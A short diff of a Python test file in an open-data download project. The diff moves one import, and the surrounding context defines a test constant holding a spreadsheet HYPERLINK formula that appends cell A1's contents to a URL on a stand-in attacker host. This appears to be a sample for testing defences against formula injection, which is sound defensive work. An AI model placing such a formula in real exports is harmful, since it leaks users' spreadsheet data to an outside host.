@@ -18,7 +18,7 @@ import pytest
 
 from conftest import Server, make_folder, release
 
-from ccas_opendata.config import read_publisher
+from ccas_opendata.publisher import read_publisher
 from ccas_opendata.downloads import readme
 
 FORMULA = '=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")'
